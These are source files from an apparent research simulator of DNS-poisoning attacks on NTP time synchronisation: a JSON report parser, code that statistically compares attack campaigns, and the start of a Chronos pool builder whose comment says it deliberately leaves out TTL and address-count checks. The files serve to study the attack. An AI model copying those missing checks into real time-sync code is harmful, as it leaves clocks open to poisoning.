  u32 candidate_trials = 0;
  /// Baseline scenario order, then candidate-only scenarios.
  std::vector<ScenarioDiff> scenarios;
  /// Metric deltas significant at alpha, across all matched scenarios.
  u32 significant = 0;

  /// The regression gate: counts metric deltas with p < p_threshold plus
  /// scenarios present in the baseline but missing from the candidate.
  /// Candidate-only scenarios do not count (adding coverage is not a
  /// regression).
  [[nodiscard]] u32 regressions(double p_threshold) const;

  /// Machine-readable diff; stable key order and number formatting.
  [[nodiscard]] std::string to_json() const;
  /// Human-readable delta table, one row per metric.
  [[nodiscard]] std::string to_table() const;
};

[[nodiscard]] DiffResult diff_campaigns(const CampaignReport& baseline,
                                        const CampaignReport& candidate,
                                        const DiffOptions& opts = {});

}  // namespace dnstime::campaign::diff
