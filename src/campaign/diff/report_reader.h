// Parsing side of CampaignReport JSON: the exact inverse of
// CampaignReport::to_json(), so reports written by any campaign tool (or a
// committed baseline artifact) can be loaded back into the in-memory
// structs for cross-campaign diffing and golden-file round-trip tests.
//
// The parser is strict where the old CLI atoi bug taught us laxness hurts:
//   * trailing garbage after the top-level object is an error, never
//     silently ignored;
//   * duplicate keys inside any object — and duplicate scenario names
//     across the scenarios array — are errors (JSON engines differ on
//     which copy wins, so accepting them makes the diff depend on parser
//     luck);
//   * unknown keys are errors: a report written by a newer serialiser
//     must fail loudly, not lose fields silently;
//   * integer fields must be plain unsigned decimal tokens in range, and
//     aggregates must be internally consistent (successes <= trials).
// Every rejection carries a line/column/offset diagnostic.
//
// Tolerances (standard JSON, needed for hand-edited baselines): arbitrary
// whitespace between tokens, any key order inside objects, the full JSON
// string escape set (\uXXXX including surrogate pairs), and `null` for the
// double-valued metrics, which maps back to NaN — to_json() writes every
// non-finite double as null, so null is the round-trip image of NaN/inf.
#pragma once

#include <cstddef>
#include <stdexcept>
#include <string>
#include <string_view>

#include "campaign/report.h"

namespace dnstime::campaign::diff {

/// Malformed or schema-violating report JSON. what() is a compiler-style
/// "<source>:<line>:<column>: <message>" diagnostic; line/column are
/// 1-based, offset is the 0-based byte position in the input.
class ParseError : public std::runtime_error {
 public:
  ParseError(const std::string& source, std::size_t line, std::size_t column,
             std::size_t offset, const std::string& message);

  [[nodiscard]] std::size_t line() const { return line_; }
  [[nodiscard]] std::size_t column() const { return column_; }
  [[nodiscard]] std::size_t offset() const { return offset_; }

 private:
  std::size_t line_;
  std::size_t column_;
  std::size_t offset_;
};

/// Parses one CampaignReport from `json`. `source` names the input in
/// diagnostics (a file path, or the default for in-memory strings).
/// Throws ParseError on any syntax or schema violation.
[[nodiscard]] CampaignReport parse_report(std::string_view json,
                                          const std::string& source =
                                              "<report>");

/// Loads a campaign from `path`: a directory is read as a trial journal
/// (store::read_report), a file as report JSON. Throws ParseError for
/// malformed JSON and std::runtime_error for I/O or journal failures.
[[nodiscard]] CampaignReport load_report(const std::string& path);

}  // namespace dnstime::campaign::diff
