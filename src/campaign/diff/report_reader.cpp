#include "campaign/diff/report_reader.h"

#include <cerrno>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <limits>
#include <utility>
#include <vector>

#include "campaign/store/journal.h"
#include "campaign/store/journal_reader.h"

namespace dnstime::campaign::diff {
namespace {

struct Pos {
  std::size_t line = 1;
  std::size_t column = 1;
};

Pos position_at(std::string_view text, std::size_t offset) {
  Pos p;
  for (std::size_t i = 0; i < offset && i < text.size(); ++i) {
    if (text[i] == '\n') {
      p.line++;
      p.column = 1;
    } else {
      p.column++;
    }
  }
  return p;
}

/// Recursive-descent parser over the CampaignReport JSON schema. Schema
/// knowledge lives directly in the grammar: every object parser dispatches
/// on key, rejects unknown and duplicate keys, and checks required keys at
/// the closing brace, so every diagnostic points at the byte that broke.
class Parser {
 public:
  Parser(std::string_view text, const std::string& source)
      : text_(text), source_(source) {}

  CampaignReport parse() {
    CampaignReport report = parse_report_object();
    skip_ws();
    if (pos_ < text_.size()) {
      fail(pos_, "trailing garbage after report object");
    }
    return report;
  }

 private:
  [[noreturn]] void fail(std::size_t offset, const std::string& message) {
    Pos p = position_at(text_, offset);
    throw ParseError(source_, p.line, p.column, offset, message);
  }

  void skip_ws() {
    while (pos_ < text_.size() &&
           (text_[pos_] == ' ' || text_[pos_] == '\t' ||
            text_[pos_] == '\n' || text_[pos_] == '\r')) {
      pos_++;
    }
  }

  char peek() {
    if (pos_ >= text_.size()) fail(pos_, "unexpected end of input");
    return text_[pos_];
  }

  void expect(char c) {
    if (peek() != c) {
      fail(pos_, std::string("expected '") + c + "'");
    }
    pos_++;
  }

  // --- JSON scalars ---------------------------------------------------------

  void append_utf8(std::string& out, u32 cp, std::size_t at) {
    if (cp <= 0x7F) {
      out += static_cast<char>(cp);
    } else if (cp <= 0x7FF) {
      out += static_cast<char>(0xC0 | (cp >> 6));
      out += static_cast<char>(0x80 | (cp & 0x3F));
    } else if (cp <= 0xFFFF) {
      out += static_cast<char>(0xE0 | (cp >> 12));
      out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
      out += static_cast<char>(0x80 | (cp & 0x3F));
    } else if (cp <= 0x10FFFF) {
      out += static_cast<char>(0xF0 | (cp >> 18));
      out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
      out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
      out += static_cast<char>(0x80 | (cp & 0x3F));
    } else {
      fail(at, "escape denotes an invalid code point");
    }
  }

  u32 parse_hex4(std::size_t at) {
    if (pos_ + 4 > text_.size()) fail(at, "truncated \\u escape");
    u32 v = 0;
    for (int i = 0; i < 4; ++i) {
      char c = text_[pos_++];
      v <<= 4;
      if (c >= '0' && c <= '9') {
        v |= static_cast<u32>(c - '0');
      } else if (c >= 'a' && c <= 'f') {
        v |= static_cast<u32>(c - 'a' + 10);
      } else if (c >= 'A' && c <= 'F') {
        v |= static_cast<u32>(c - 'A' + 10);
      } else {
        fail(pos_ - 1, "invalid hex digit in \\u escape");
      }
    }
    return v;
  }

  std::string parse_string() {
    skip_ws();
    const std::size_t start = pos_;
    expect('"');
    std::string out;
    for (;;) {
      if (pos_ >= text_.size()) fail(start, "unterminated string");
      char c = text_[pos_++];
      if (c == '"') return out;
      if (static_cast<unsigned char>(c) < 0x20) {
        fail(pos_ - 1, "unescaped control character in string");
      }
      if (c != '\\') {
        out += c;
        continue;
      }
      if (pos_ >= text_.size()) fail(start, "unterminated string");
      const std::size_t esc = pos_ - 1;
      char e = text_[pos_++];
      switch (e) {
        case '"': out += '"'; break;
        case '\\': out += '\\'; break;
        case '/': out += '/'; break;
        case 'b': out += '\b'; break;
        case 'f': out += '\f'; break;
        case 'n': out += '\n'; break;
        case 'r': out += '\r'; break;
        case 't': out += '\t'; break;
        case 'u': {
          u32 cp = parse_hex4(esc);
          if (cp >= 0xD800 && cp <= 0xDBFF) {  // high surrogate: need pair
            if (pos_ + 2 > text_.size() || text_[pos_] != '\\' ||
                text_[pos_ + 1] != 'u') {
              fail(esc, "high surrogate without a low surrogate");
            }
            pos_ += 2;
            u32 lo = parse_hex4(esc);
            if (lo < 0xDC00 || lo > 0xDFFF) {
              fail(esc, "high surrogate without a low surrogate");
            }
            cp = 0x10000 + ((cp - 0xD800) << 10) + (lo - 0xDC00);
          } else if (cp >= 0xDC00 && cp <= 0xDFFF) {
            fail(esc, "lone low surrogate");
          }
          append_utf8(out, cp, esc);
          break;
        }
        default:
          fail(esc, "invalid escape sequence");
      }
    }
  }

  /// Plain unsigned decimal token — what std::to_string writes for the
  /// integer fields. Signs, fractions, exponents and leading zeros are
  /// schema errors here even though they are valid JSON numbers.
  u64 parse_u64(const char* field) {
    skip_ws();
    const std::size_t start = pos_;
    while (pos_ < text_.size() && text_[pos_] >= '0' && text_[pos_] <= '9') {
      pos_++;
    }
    auto bad = [&]() {
      fail(start, std::string("expected an unsigned integer for \"") + field +
                      "\"");
    };
    if (pos_ == start) bad();
    if (text_[start] == '0' && pos_ - start > 1) bad();
    if (pos_ < text_.size() &&
        (text_[pos_] == '.' || text_[pos_] == 'e' || text_[pos_] == 'E')) {
      bad();
    }
    std::string token(text_.substr(start, pos_ - start));
    errno = 0;
    char* end = nullptr;
    unsigned long long v = std::strtoull(token.c_str(), &end, 10);
    if (errno == ERANGE || *end != '\0') {
      fail(start, std::string("value out of range for \"") + field + "\"");
    }
    return v;
  }

  /// JSON number or null; null maps to NaN (to_json writes every
  /// non-finite double as null, so this is the round-trip inverse).
  double parse_double_or_null(const char* field) {
    skip_ws();
    const std::size_t start = pos_;
    if (text_.compare(pos_, 4, "null") == 0) {
      pos_ += 4;
      return std::numeric_limits<double>::quiet_NaN();
    }
    // Validate the RFC 8259 number grammar before handing to strtod.
    if (pos_ < text_.size() && text_[pos_] == '-') pos_++;
    auto bad = [&]() {
      fail(start,
           std::string("expected a number or null for \"") + field + "\"");
    };
    auto digits = [&]() {
      const std::size_t d = pos_;
      while (pos_ < text_.size() && text_[pos_] >= '0' && text_[pos_] <= '9') {
        pos_++;
      }
      if (pos_ == d) bad();
      return d;
    };
    const std::size_t int_start = digits();
    if (text_[int_start] == '0' && pos_ - int_start > 1) bad();
    if (pos_ < text_.size() && text_[pos_] == '.') {
      pos_++;
      digits();
    }
    if (pos_ < text_.size() && (text_[pos_] == 'e' || text_[pos_] == 'E')) {
      pos_++;
      if (pos_ < text_.size() && (text_[pos_] == '+' || text_[pos_] == '-')) {
        pos_++;
      }
      digits();
    }
    std::string token(text_.substr(start, pos_ - start));
    const double v = std::strtod(token.c_str(), nullptr);
    // Overflow to infinity (e.g. 1e400) would smuggle a non-finite value
    // past the writer's null convention and poison every downstream
    // delta; reject it here. Underflow to a denormal stays accepted —
    // the writer legitimately emits denormals.
    if (!std::isfinite(v)) {
      fail(start, std::string("number out of range for \"") + field + "\"");
    }
    return v;
  }

  bool parse_bool(const char* field) {
    skip_ws();
    if (text_.compare(pos_, 4, "true") == 0) {
      pos_ += 4;
      return true;
    }
    if (text_.compare(pos_, 5, "false") == 0) {
      pos_ += 5;
      return false;
    }
    fail(pos_, std::string("expected true or false for \"") + field + "\"");
  }

  // --- composite walkers ----------------------------------------------------

  /// Walks '{"key":value,...}'. `handle(key, key_offset)` consumes the
  /// value and returns false for keys the schema does not know. Duplicate
  /// keys are rejected here, for every object uniformly.
  template <typename HandleKey>
  void parse_object(HandleKey&& handle) {
    skip_ws();
    expect('{');
    skip_ws();
    if (peek() == '}') {
      pos_++;
      return;
    }
    std::vector<std::string> seen;
    for (;;) {
      skip_ws();
      const std::size_t key_off = pos_;
      std::string key = parse_string();
      for (const std::string& k : seen) {
        if (k == key) fail(key_off, "duplicate key \"" + key + "\"");
      }
      skip_ws();
      expect(':');
      if (!handle(key, key_off)) fail(key_off, "unknown key \"" + key + "\"");
      seen.push_back(std::move(key));
      skip_ws();
      const std::size_t sep = pos_;
      char c = peek();
      pos_++;
      if (c == '}') return;
      if (c != ',') fail(sep, "expected ',' or '}'");
    }
  }

  template <typename Element>
  void parse_array(Element&& element) {
    skip_ws();
    expect('[');
    skip_ws();
    if (peek() == ']') {
      pos_++;
      return;
    }
    for (;;) {
      element();
      skip_ws();
      const std::size_t sep = pos_;
      char c = peek();
      pos_++;
      if (c == ']') return;
      if (c != ',') fail(sep, "expected ',' or ']'");
    }
  }

  /// Consumes any well-formed JSON value without interpreting it. The
  /// optional "metrics" key holds process telemetry (wall times, pool hit
  /// rates) whose schema is free to evolve; the diff compares simulation
  /// results only, so it validates the value's syntax and discards it.
  void skip_value() {
    skip_ws();
    const char c = peek();
    if (c == '{') {
      parse_object([&](const std::string&, std::size_t) {
        skip_value();
        return true;
      });
    } else if (c == '[') {
      parse_array([&]() { skip_value(); });
    } else if (c == '"') {
      parse_string();
    } else if (c == 't' || c == 'f') {
      parse_bool("skipped value");
    } else {
      parse_double_or_null("skipped value");
    }
  }

  /// Tracks required-key presence for one object and reports the first
  /// missing one at the object's opening brace.
  struct Required {
    const char* key;
    bool seen = false;
  };
  void check_required(std::size_t open, std::initializer_list<Required*> req,
                      const char* object_name) {
    for (Required* r : req) {
      if (!r->seen) {
        fail(open, std::string(object_name) + " is missing key \"" + r->key +
                       "\"");
      }
    }
  }

  // --- schema ---------------------------------------------------------------

  TrialResult parse_trial() {
    TrialResult t;
    Required trial{"trial"}, seed{"seed"}, success{"success"},
        duration{"duration_s"}, shift{"clock_shift_s"}, metric{"metric"},
        fragments{"fragments_planted"}, replants{"replant_rounds"};
    skip_ws();
    const std::size_t open = pos_;
    parse_object([&](const std::string& key, std::size_t) {
      if (key == "trial") {
        u64 v = parse_u64("trial");
        if (v > std::numeric_limits<u32>::max()) {
          fail(open, "\"trial\" out of range");
        }
        t.trial = static_cast<u32>(v);
        trial.seen = true;
      } else if (key == "seed") {
        t.seed = parse_u64("seed");
        seed.seen = true;
      } else if (key == "success") {
        t.success = parse_bool("success");
        success.seen = true;
      } else if (key == "duration_s") {
        t.duration_s = parse_double_or_null("duration_s");
        duration.seen = true;
      } else if (key == "clock_shift_s") {
        t.clock_shift_s = parse_double_or_null("clock_shift_s");
        shift.seen = true;
      } else if (key == "metric") {
        t.metric = parse_double_or_null("metric");
        metric.seen = true;
      } else if (key == "fragments_planted") {
        t.fragments_planted = parse_u64("fragments_planted");
        fragments.seen = true;
      } else if (key == "replant_rounds") {
        t.replant_rounds = parse_u64("replant_rounds");
        replants.seen = true;
      } else if (key == "error") {
        t.error = parse_string();
      } else {
        return false;
      }
      return true;
    });
    check_required(open,
                   {&trial, &seed, &success, &duration, &shift, &metric,
                    &fragments, &replants},
                   "trial");
    return t;
  }

  ScenarioAggregate parse_scenario() {
    ScenarioAggregate s;
    Required name{"name"}, attack{"attack"}, trials{"trials"},
        successes{"successes"}, errors{"errors"}, rate{"success_rate"},
        dmean{"duration_mean_s"}, dp50{"duration_p50_s"},
        dp90{"duration_p90_s"}, smean{"shift_mean_s"}, mmean{"metric_mean"},
        frags{"fragments_total"};
    skip_ws();
    const std::size_t open = pos_;
    parse_object([&](const std::string& key, std::size_t) {
      if (key == "name") {
        s.name = parse_string();
        name.seen = true;
      } else if (key == "attack") {
        s.attack = parse_string();
        attack.seen = true;
      } else if (key == "trials") {
        u64 v = parse_u64("trials");
        if (v > std::numeric_limits<u32>::max()) {
          fail(open, "\"trials\" out of range");
        }
        s.trials = static_cast<u32>(v);
        trials.seen = true;
      } else if (key == "successes") {
        u64 v = parse_u64("successes");
        if (v > std::numeric_limits<u32>::max()) {
          fail(open, "\"successes\" out of range");
        }
        s.successes = static_cast<u32>(v);
        successes.seen = true;
      } else if (key == "errors") {
        u64 v = parse_u64("errors");
        if (v > std::numeric_limits<u32>::max()) {
          fail(open, "\"errors\" out of range");
        }
        s.errors = static_cast<u32>(v);
        errors.seen = true;
      } else if (key == "success_rate") {
        s.success_rate = parse_double_or_null("success_rate");
        rate.seen = true;
      } else if (key == "duration_mean_s") {
        s.duration_mean_s = parse_double_or_null("duration_mean_s");
        dmean.seen = true;
      } else if (key == "duration_p50_s") {
        s.duration_p50_s = parse_double_or_null("duration_p50_s");
        dp50.seen = true;
      } else if (key == "duration_p90_s") {
        s.duration_p90_s = parse_double_or_null("duration_p90_s");
        dp90.seen = true;
      } else if (key == "shift_mean_s") {
        s.shift_mean_s = parse_double_or_null("shift_mean_s");
        smean.seen = true;
      } else if (key == "metric_mean") {
        s.metric_mean = parse_double_or_null("metric_mean");
        mmean.seen = true;
      } else if (key == "fragments_total") {
        s.fragments_total = parse_u64("fragments_total");
        frags.seen = true;
      } else if (key == "results") {
        parse_array([&]() { s.results.push_back(parse_trial()); });
      } else {
        return false;
      }
      return true;
    });
    check_required(open,
                   {&name, &attack, &trials, &successes, &errors, &rate,
                    &dmean, &dp50, &dp90, &smean, &mmean, &frags},
                   "scenario");
    if (s.successes > s.trials) {
      fail(open, "scenario \"" + s.name + "\": successes exceed trials");
    }
    if (s.errors > s.trials) {
      fail(open, "scenario \"" + s.name + "\": errors exceed trials");
    }
    return s;
  }

  CampaignReport parse_report_object() {
    CampaignReport r;
    Required seed{"seed"}, trials{"trials_per_scenario"},
        scenarios{"scenarios"};
    skip_ws();
    const std::size_t open = pos_;
    parse_object([&](const std::string& key, std::size_t) {
      if (key == "seed") {
        r.seed = parse_u64("seed");
        seed.seen = true;
      } else if (key == "trials_per_scenario") {
        u64 v = parse_u64("trials_per_scenario");
        if (v > std::numeric_limits<u32>::max()) {
          fail(open, "\"trials_per_scenario\" out of range");
        }
        r.trials_per_scenario = static_cast<u32>(v);
        trials.seen = true;
      } else if (key == "scenarios") {
        scenarios.seen = true;
        parse_array([&]() {
          skip_ws();
          const std::size_t at = pos_;
          ScenarioAggregate s = parse_scenario();
          for (const ScenarioAggregate& prev : r.scenarios) {
            if (prev.name == s.name) {
              fail(at, "duplicate scenario \"" + s.name + "\"");
            }
          }
          r.scenarios.push_back(std::move(s));
        });
      } else if (key == "metrics") {
        skip_value();
      } else {
        return false;
      }
      return true;
    });
    check_required(open, {&seed, &trials, &scenarios}, "report");
    return r;
  }

  std::string_view text_;
  const std::string& source_;
  std::size_t pos_ = 0;
};

}  // namespace

ParseError::ParseError(const std::string& source, std::size_t line,
                       std::size_t column, std::size_t offset,
                       const std::string& message)
    : std::runtime_error(source + ":" + std::to_string(line) + ":" +
                         std::to_string(column) + ": " + message),
      line_(line),
      column_(column),
      offset_(offset) {}

CampaignReport parse_report(std::string_view json, const std::string& source) {
  return Parser(json, source).parse();
}

CampaignReport load_report(const std::string& path) {
  std::error_code ec;
  if (std::filesystem::is_directory(path, ec)) {
    return store::read_report(path);
  }
  store::FilePtr f(std::fopen(path.c_str(), "rb"));
  if (f == nullptr) {
    throw std::runtime_error("cannot open report '" + path +
                             "': " + std::strerror(errno));
  }
  std::string text;
  char buf[65536];
  std::size_t n = 0;
  while ((n = std::fread(buf, 1, sizeof buf, f.get())) > 0) {
    text.append(buf, n);
  }
  if (std::ferror(f.get())) {
    throw std::runtime_error("cannot read report '" + path + "'");
  }
  return parse_report(text, path);
}

}  // namespace dnstime::campaign::diff
