#include "campaign/diff/diff.h"

#include <cmath>
#include <cstdio>
#include <limits>
#include <utility>

#include "common/stats.h"

namespace dnstime::campaign::diff {
namespace {

constexpr double kNaN = std::numeric_limits<double>::quiet_NaN();
/// Phi^-1(0.9): converts the p50..p90 spread into a sigma estimate under
/// a normality assumption (the aggregate-only duration fallback).
constexpr double kZ90 = 1.2815515655446004;

/// Durations of the successful trials (the population every duration
/// aggregate is defined over).
std::vector<double> success_durations(const ScenarioAggregate& s) {
  std::vector<double> v;
  for (const TrialResult& r : s.results) {
    if (r.success) v.push_back(r.duration_s);
  }
  return v;
}

std::vector<double> success_shifts(const ScenarioAggregate& s) {
  std::vector<double> v;
  for (const TrialResult& r : s.results) {
    if (r.success) v.push_back(r.clock_shift_s);
  }
  return v;
}

std::vector<double> all_metrics(const ScenarioAggregate& s) {
  std::vector<double> v;
  v.reserve(s.results.size());
  for (const TrialResult& r : s.results) v.push_back(r.metric);
  return v;
}

/// A report carries usable per-trial data for a scenario only when the
/// results vector is complete — journaled-run reports serialise
/// aggregates only (results empty), and a partially doctored file must
/// not masquerade as trial-level evidence.
bool has_trials(const ScenarioAggregate& s) {
  return s.trials > 0 && s.results.size() == s.trials;
}

/// Directed metrics: +1 when a positive delta is an improvement (success
/// rate up), -1 when it is a regression (duration up = attack slower),
/// 0 for direction-less drift metrics.
MetricDelta annotate(MetricDelta d, const TestResult& t, int better_sign,
                     double alpha) {
  if (t.valid) {
    d.statistic = t.statistic;
    d.df = t.df;
    d.p = t.p;
    if (t.p < alpha) {
      // A NaN delta (a null aggregate beside real trial data) has no
      // direction to report; neither does an exactly-zero one.
      if (better_sign == 0 || std::isnan(d.delta) || d.delta == 0.0) {
        d.verdict = Verdict::kShifted;
      } else {
        const bool improved = (d.delta > 0.0) == (better_sign > 0);
        d.verdict = improved ? Verdict::kImproved : Verdict::kRegressed;
      }
    }
  } else {
    d.test = "none";
    d.p = kNaN;
  }
  return d;
}

MetricDelta untested(std::string metric, double baseline, double candidate) {
  MetricDelta d;
  d.metric = std::move(metric);
  d.baseline = baseline;
  d.candidate = candidate;
  d.delta = candidate - baseline;
  d.test = "none";
  d.p = kNaN;
  return d;
}

std::vector<MetricDelta> diff_scenario(const ScenarioAggregate& b,
                                       const ScenarioAggregate& c,
                                       double alpha) {
  std::vector<MetricDelta> metrics;
  const bool trials_b = has_trials(b);
  const bool trials_c = has_trials(c);
  // Shared by the Welch and KS rows; built once per side.
  std::vector<double> durations_b, durations_c;
  if (trials_b && trials_c) {
    durations_b = success_durations(b);
    durations_c = success_durations(c);
  }

  {  // success_rate: aggregates are exactly the test's sufficient statistic
    MetricDelta d;
    d.metric = "success_rate";
    d.baseline = b.success_rate;
    d.candidate = c.success_rate;
    d.delta = c.success_rate - b.success_rate;
    d.test = "two-proportion-z";
    metrics.push_back(annotate(std::move(d),
                               two_proportion_z_test(b.successes, b.trials,
                                                     c.successes, c.trials),
                               /*better_sign=*/+1, alpha));
  }

  {  // duration_mean_s: Welch over samples, or normal approx from quantiles
    MetricDelta d;
    d.metric = "duration_mean_s";
    d.baseline = b.duration_mean_s;
    d.candidate = c.duration_mean_s;
    d.delta = c.duration_mean_s - b.duration_mean_s;
    TestResult t;
    if (trials_b && trials_c) {
      d.test = "welch-t";
      t = welch_t_test(durations_b, durations_c);
    } else {
      d.test = "normal-approx";
      const double sb = (b.duration_p90_s - b.duration_p50_s) / kZ90;
      const double sc = (c.duration_p90_s - c.duration_p50_s) / kZ90;
      if (b.successes >= 2 && c.successes >= 2 && (sb > 0.0 || sc > 0.0)) {
        t.valid = true;
        const double se2 =
            sb * sb / static_cast<double>(b.successes) +
            sc * sc / static_cast<double>(c.successes);
        t.statistic = (c.duration_mean_s - b.duration_mean_s) /
                      std::sqrt(se2);
        t.p = normal_two_sided_p(t.statistic);
      }
      // A zero quantile spread on both sides is an estimation artifact of
      // tiny samples, not evidence of zero variance: report untested
      // rather than fabricate p = 0.
    }
    metrics.push_back(annotate(std::move(d), t, /*better_sign=*/-1, alpha));
  }

  metrics.push_back(
      untested("duration_p50_s", b.duration_p50_s, c.duration_p50_s));
  metrics.push_back(
      untested("duration_p90_s", b.duration_p90_s, c.duration_p90_s));

  {  // duration_dist: KS over success durations, shape drift detector
    MetricDelta d;
    d.metric = "duration_dist";
    d.baseline = kNaN;
    d.candidate = kNaN;
    d.test = "ks";
    TestResult t;
    if (trials_b && trials_c) {
      t = ks_test(durations_b, durations_c);
    }
    d.delta = t.valid ? t.statistic : kNaN;
    metrics.push_back(annotate(std::move(d), t, /*better_sign=*/0, alpha));
  }

  {  // shift_mean_s: aggregates carry no variance, so trial data or nothing
    MetricDelta d;
    d.metric = "shift_mean_s";
    d.baseline = b.shift_mean_s;
    d.candidate = c.shift_mean_s;
    d.delta = c.shift_mean_s - b.shift_mean_s;
    d.test = "welch-t";
    TestResult t;
    if (trials_b && trials_c) {
      t = welch_t_test(success_shifts(b), success_shifts(c));
    }
    metrics.push_back(annotate(std::move(d), t, /*better_sign=*/0, alpha));
  }

  {  // metric_mean: scenario-defined scalar over all trials
    MetricDelta d;
    d.metric = "metric_mean";
    d.baseline = b.metric_mean;
    d.candidate = c.metric_mean;
    d.delta = c.metric_mean - b.metric_mean;
    d.test = "welch-t";
    TestResult t;
    if (trials_b && trials_c) {
      t = welch_t_test(all_metrics(b), all_metrics(c));
    }
    metrics.push_back(annotate(std::move(d), t, /*better_sign=*/0, alpha));
  }

  return metrics;
}

}  // namespace

const char* to_string(Verdict v) {
  switch (v) {
    case Verdict::kUnchanged: return "unchanged";
    case Verdict::kImproved: return "improved";
    case Verdict::kRegressed: return "regressed";
    case Verdict::kShifted: return "shifted";
  }
  return "unchanged";
}

DiffResult diff_campaigns(const CampaignReport& baseline,
                          const CampaignReport& candidate,
                          const DiffOptions& opts) {
  DiffResult out;
  out.alpha = opts.alpha;
  out.baseline_seed = baseline.seed;
  out.candidate_seed = candidate.seed;
  out.baseline_trials = baseline.trials_per_scenario;
  out.candidate_trials = candidate.trials_per_scenario;

  auto find = [](const CampaignReport& r, const std::string& name,
                 const std::string& attack) -> const ScenarioAggregate* {
    for (const ScenarioAggregate& s : r.scenarios) {
      // Same name with a different attack recipe is a different
      // experiment: treat it as unmatched rather than comparing apples
      // to oranges.
      if (s.name == name && s.attack == attack) return &s;
    }
    return nullptr;
  };

  for (const ScenarioAggregate& b : baseline.scenarios) {
    ScenarioDiff sd;
    sd.name = b.name;
    sd.attack = b.attack;
    sd.in_baseline = true;
    const ScenarioAggregate* c = find(candidate, b.name, b.attack);
    if (c != nullptr) {
      sd.in_candidate = true;
      sd.metrics = diff_scenario(b, *c, opts.alpha);
      for (const MetricDelta& m : sd.metrics) {
        if (m.verdict != Verdict::kUnchanged) out.significant++;
      }
    }
    out.scenarios.push_back(std::move(sd));
  }
  for (const ScenarioAggregate& c : candidate.scenarios) {
    if (find(baseline, c.name, c.attack) != nullptr) continue;
    ScenarioDiff sd;
    sd.name = c.name;
    sd.attack = c.attack;
    sd.in_candidate = true;
    out.scenarios.push_back(std::move(sd));
  }
  return out;
}

u32 DiffResult::regressions(double p_threshold) const {
  u32 count = 0;
  for (const ScenarioDiff& sd : scenarios) {
    if (sd.in_baseline && !sd.in_candidate) {
      count++;
      continue;
    }
    for (const MetricDelta& m : sd.metrics) {
      if (m.p < p_threshold) count++;  // NaN (untested) never compares true
    }
  }
  return count;
}

std::string DiffResult::to_json() const {
  std::string out;
  out += "{\"alpha\":" + json_number(alpha);
  out += ",\"baseline\":{\"seed\":" + std::to_string(baseline_seed);
  out += ",\"trials_per_scenario\":" + std::to_string(baseline_trials) + "}";
  out += ",\"candidate\":{\"seed\":" + std::to_string(candidate_seed);
  out += ",\"trials_per_scenario\":" + std::to_string(candidate_trials) + "}";
  out += ",\"significant\":" + std::to_string(significant);
  out += ",\"scenarios\":[";
  bool first_scenario = true;
  for (const ScenarioDiff& sd : scenarios) {
    if (!first_scenario) out += ",";
    first_scenario = false;
    out += "{\"name\":\"";
    json_escape_into(out, sd.name);
    out += "\",\"attack\":\"";
    json_escape_into(out, sd.attack);
    out += "\",\"in_baseline\":" + std::string(sd.in_baseline ? "true"
                                                              : "false");
    out += ",\"in_candidate\":" + std::string(sd.in_candidate ? "true"
                                                              : "false");
    out += ",\"metrics\":[";
    bool first_metric = true;
    for (const MetricDelta& m : sd.metrics) {
      if (!first_metric) out += ",";
      first_metric = false;
      out += "{\"metric\":\"";
      json_escape_into(out, m.metric);
      out += "\",\"baseline\":" + json_number(m.baseline);
      out += ",\"candidate\":" + json_number(m.candidate);
      out += ",\"delta\":" + json_number(m.delta);
      out += ",\"test\":\"";
      json_escape_into(out, m.test);
      out += "\",\"statistic\":" + json_number(m.statistic);
      out += ",\"df\":" + json_number(m.df);
      out += ",\"p\":" + json_number(m.p);
      out += ",\"verdict\":\"";
      out += to_string(m.verdict);
      out += "\"}";
    }
    out += "]}";
  }
  out += "]}";
  return out;
}

std::string DiffResult::to_table() const {
  std::string out;
  char line[256];
  std::snprintf(line, sizeof line,
                "  baseline:  seed=%llu trials/scenario=%u\n"
                "  candidate: seed=%llu trials/scenario=%u\n"
                "  alpha=%s significant=%u\n\n",
                static_cast<unsigned long long>(baseline_seed),
                baseline_trials,
                static_cast<unsigned long long>(candidate_seed),
                candidate_trials, json_number(alpha).c_str(), significant);
  out += line;
  std::snprintf(line, sizeof line,
                "  %-24s %-15s %10s %10s %10s %9s  %s\n", "scenario",
                "metric", "baseline", "candidate", "delta", "p", "verdict");
  out += line;
  out += "  ";
  out.append(96, '-');
  out += "\n";
  auto num = [](double v) -> std::string {
    return std::isnan(v) ? "-" : json_number(v);
  };
  for (const ScenarioDiff& sd : scenarios) {
    if (!sd.in_baseline || !sd.in_candidate) {
      std::snprintf(line, sizeof line, "  %-24s %-15s %10s %10s %10s %9s  %s\n",
                    sd.name.c_str(), "-", sd.in_baseline ? "present" : "-",
                    sd.in_candidate ? "present" : "-", "-", "-",
                    sd.in_baseline ? "MISSING" : "NEW");
      out += line;
      continue;
    }
    bool first = true;
    for (const MetricDelta& m : sd.metrics) {
      const char* verdict = m.verdict == Verdict::kUnchanged ? "ok"
                            : m.verdict == Verdict::kImproved ? "IMPROVED"
                            : m.verdict == Verdict::kRegressed ? "REGRESSED"
                                                               : "SHIFTED";
      std::snprintf(line, sizeof line,
                    "  %-24s %-15s %10s %10s %10s %9s  %s\n",
                    first ? sd.name.c_str() : "", m.metric.c_str(),
                    num(m.baseline).c_str(), num(m.candidate).c_str(),
                    num(m.delta).c_str(), num(m.p).c_str(), verdict);
      out += line;
      first = false;
    }
  }
  return out;
}

}  // namespace dnstime::campaign::diff
