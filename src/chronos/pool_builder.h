// Chronos server-pool generation (§VI, following the NDSS'18 proposal and
// draft-schiff-ntp-chronos): query pool.ntp.org once an hour for 24 hours
// and take the union of all returned addresses (4 per response => up to 96
// servers).
//
// The two weaknesses the paper identifies live here, deliberately:
//  * §VI-A the hourly query timing is predictable;
//  * §VI-B responses are combined with no sanity checks — neither the TTL
//    nor the number of addresses in a response is examined, so one
//    poisoned response with 89 attacker addresses and TTL > 24 h dominates
//    the pool and pins every later query to the resolver's cache.
#pragma once

#include <functional>
#include <vector>

#include "dns/resolver.h"
#include "sim/time.h"

namespace dnstime::chronos {

struct PoolBuilderConfig {
  std::string pool_domain = "pool.ntp.org";
  int total_queries = 24;
  sim::Duration query_interval = sim::Duration::hours(1);
};

class PoolBuilder {
 public:
  PoolBuilder(net::NetStack& stack, Ipv4Addr resolver,
              PoolBuilderConfig config = {});

  /// Begin the 24-hour collection; `on_query_done(n)` fires after each of
  /// the queries with the current pool size (tests/attacks hook this).
  void start(std::function<void(int)> on_query_done = nullptr);

